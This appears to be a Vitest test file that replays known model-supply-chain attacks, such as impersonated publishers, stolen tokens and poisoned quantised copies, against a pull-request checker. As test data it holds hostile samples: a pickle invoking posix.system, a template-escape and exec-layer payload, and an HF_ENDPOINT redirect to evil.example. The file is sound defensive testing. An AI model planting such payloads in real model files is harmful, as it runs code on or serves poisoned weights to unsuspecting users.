import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { modelsLockPath } from '../../src/model/index.ts'
import { added, changed, load, old, startReplay } from './replay.ts'

/**
 * Attacks that happened, replayed against the whole pipeline as a pull request brings them: nothing here knows what a
 * stage does. Without a policy (the preset `default`) unless a row says otherwise; caught means an error or a warning.
 */
let replay: Awaited<ReturnType<typeof startReplay>>
beforeAll(async () => {
  replay = await startReplay()
})
afterAll(() => replay.close())
const caught: Replay['caught'] = (changes, given) => replay.caught(changes, given)
const publish: Replay['publish'] = (spec, files) => replay.publish(spec, files)
const lockOf: Replay['lockOf'] = (id, revision) => replay.lockOf(id, revision)
type Replay = typeof replay

describe('a good pull request', () => {
  it('has nothing to hear', async () => {
    const files = { 'config.json': '{"model_type":"x"}', 'model.safetensors': 'weights', 'README.md': 'hi' }
    const commit = publish({ id: 'acme/good' }, files)
    expect(await caught([added('load.py', load('acme/good', commit))])).toEqual([])
    const policy = 'version: 1\npreset: strict\npublishers:\n  - { id: acme, huggingface: [acme] }\n'
    expect(await caught([added('load.py', load('acme/good', commit))], { policy })).toEqual([])
  })
})

describe('attacks', () => {
  it('50: another account poses as the publisher, with a program beside harmless weights', async () => {
    const files = { 'model.safetensors': 'weights', 'loader.py': 'x', 'start.bat': 'x' }
    const commit = publish({ id: 'Open-OSS/privacy-filter' }, files)
    const change = added('load.py', load('Open-OSS/privacy-filter', commit))
    expect(await caught([change])).toEqual(['warning: model-format/program'])
    const policy = 'version: 1\npublishers: [openai]\n'
    expect(await caught([change], { policy })).toContain('error: model-publisher-not-allowed/notAllowed')
  })

  it('51: a deleted name is registered again', async () => {
    const files = { 'model.safetensors': 'weights' }
    const pinned = publish({ id: 'lost/model', _id: '1'.repeat(24) }, files)
    const lock = await lockOf('lost/model', 'main')
    replay.hub.move('lost/model', 'found/model')
    expect(await caught([added('load.py', load('lost/model', pinned))])).toEqual(['warning: model-moved/moved'])
    publish({ id: 'lost/model', _id: '2'.repeat(24) }, { 'model.safetensors': 'poison!' })
    expect(await caught([added('load.py', load('lost/model', pinned))])).toEqual([
      'error: model-commit-unreachable/absent',
    ])
    expect(await caught([added('load.py', load('lost/model', 'main'))], { lock })).toContain(
      'error: model-lock-drift/repository',
    )
  })

  it.each([
    ['52: nullifAI, a pickle in another container', { 'pytorch_model.bin': "7z\u00bc\u00af'\u001c" }],
    ['53: a pickle that starts a shell', { 'model.pkl': "cposix\nsystem\n(S'id'\ntR." }],
    ['59: torch.load with weights_only', { 'weights.pt': 'PK' }],
    ['61: a pickle that scanners cannot read', { 'pytorch_model-00001-of-00002.bin': 'PK with a bad CRC' }],
  ])('%s', async (_what, files) => {
    const commit = publish({ id: 'glockr1/ballr7' }, { 'config.json': '{}', ...files })
    expect(await caught([added('load.py', load('glockr1/ballr7', commit))])).toEqual(['warning: model-format/executes'])
  })

  it('54: a pull request on the model, pushed by a stranger', async () => {
    const tip = publish({ id: 'acme/target' }, { 'model.safetensors': 'weights' })
    const files = { 'model.safetensors': 'poison!' }
    const foreign = replay.hub.push('acme/target', { date: old, on: 'refs/pr/1', from: tip, files })
    expect(await caught([added('load.py', load('acme/target', 'refs/pr/1'))])).toEqual([
      'warning: model-unpinned/mutable',
    ])
    expect(await caught([added('load.py', load('acme/target', foreign))])).toEqual([
      'error: model-commit-unreachable/foreign',
    ])
  })

  it('55: the owner’s token is stolen, and weights change under an unchanged name', async () => {
    publish({ id: 'acme/stolen' }, { 'model.safetensors': 'weights' })
    expect(await caught([added('load.py', load('acme/stolen'))])).toEqual(['warning: model-unpinned/mutable'])
    const lock = await lockOf('acme/stolen', 'main')
    replay.hub.push('acme/stolen', { date: old, files: { 'model.safetensors': 'poison!' } })
    expect(await caught([added('load.py', load('acme/stolen', 'main'))], { lock })).toContain(
      'error: model-lock-drift/files',
    )
  })

  it('56: code from another repository, by the configuration', async () => {
    const configuration = JSON.stringify({ auto_map: { AutoModel: 'evil/x--modeling.M' } })
    const commit = publish({ id: 'acme/mapped' }, { 'config.json': configuration, 'model.safetensors': 'w' })
    expect(await caught([added('load.py', load('acme/mapped', commit))])).toEqual([
      'warning: model-remote-code/foreign',
    ])
    const trusting = load('acme/mapped', commit, ', trust_remote_code=True')
    expect(await caught([added('load.py', trusting)])).toEqual([
      'warning: model-remote-code/foreign',
      'warning: model-remote-code/unpinned',
    ])
    const kernel = JSON.stringify({ text_config: { _attn_implementation_internal: 'evil/kernel' } })
    const loud = publish({ id: 'acme/kernel' }, { 'config.json': kernel, 'model.safetensors': 'w' })
    expect(await caught([added('load.py', load('acme/kernel', loud))])).toEqual(['warning: model-remote-code/kernel'])
  })

  it('57: a poisoned chat template in a quantised copy', async () => {
    publish({ id: 'acme/original', config: { tokenizer_config: { chat_template: '{{ messages }}' } } }, { a: '1' })
    const copy = (chat_template: string) => ({
      id: 'quant/original-GGUF',
      gguf: { chat_template },
      baseModels: { relation: 'quantized', models: [{ id: 'acme/original' }] },
    })
    const poisoned = publish(copy("{% if 'x' in messages %}bad{% endif %}{{ messages }}"), { 'a.gguf': 'w' })
    expect(await caught([added('load.py', load('quant/original-GGUF', poisoned))])).toEqual([
      'warning: model-template/differs',
    ])
    const breaking = publish(copy("{{ ''.__class__.__mro__ }}"), { 'a.gguf': 'w' })
    expect(await caught([added('load.py', load('quant/original-GGUF', breaking))])).toContain(
      'warning: model-template/unsafe',
    )
  })

  it('58: a layer that holds code, where nothing better is there (from recommended on)', async () => {
    const commit = publish({ id: 'acme/lambda' }, { 'model.keras': '{"module":"builtins","class_name":"exec"}' })
    const policy = 'version: 1\npreset: recommended\n'
    expect(await caught([added('load.py', load('acme/lambda', commit))], { policy })).toEqual([
      'warning: model-format/code-inside',
    ])
  })

  it('another server in the place of the hub, by one line of a file that loads nothing', async () => {
    const line = 'HF_ENDPOINT=https://evil.example\n'
    expect(await caught([changed('.env', 'A=b\n', `A=b\n${line}`)])).toEqual(['warning: model-endpoint/set'])
    expect(await caught([changed('.env', line, `A=b\n${line}`)])).toEqual([])
    const commit = publish({ id: 'acme/argued' }, { 'model.safetensors': 'w' })
    const asks = `from huggingface_hub import hf_hub_download\nhf_hub_download("acme/argued", "model.safetensors", revision="${commit}"`
    expect(await caught([added('a.py', `${asks}, endpoint="https://evil.example")\n`)])).toEqual([
      'warning: model-endpoint/redirected',
    ])
    expect(await caught([added('a.py', `${asks})\n`)])).toEqual([])
  })

  it('asks about a model once, where code loads it, and not again for its entry in the lock', async () => {
    const commit = publish({ id: 'acme/twice' }, { 'model.pkl': 'x' })
    const changes = [
      added('load.py', load('acme/twice', commit)),
      added(modelsLockPath, await lockOf('acme/twice', commit)),
    ]
    expect(await caught(changes)).toEqual(['warning: model-format/executes'])
  })

  it('a lock that lies, or is made unreadable, for what the pull request brings', async () => {
    publish({ id: 'acme/locked' }, { 'model.safetensors': 'weights' })
    const lock = await lockOf('acme/locked', 'main')
    const lying = lock.replace(/"sha256": "[0-9a-f]{64}"/, `"sha256": "${'0'.repeat(64)}"`)
    expect(await caught([added(modelsLockPath, lying)])).toEqual(['error: model-lock-drift/files'])
    expect(await caught([added(modelsLockPath, `${lock}<<<<<<< HEAD`)])).toEqual(['error: could-not-check/unreadable'])
  })
})
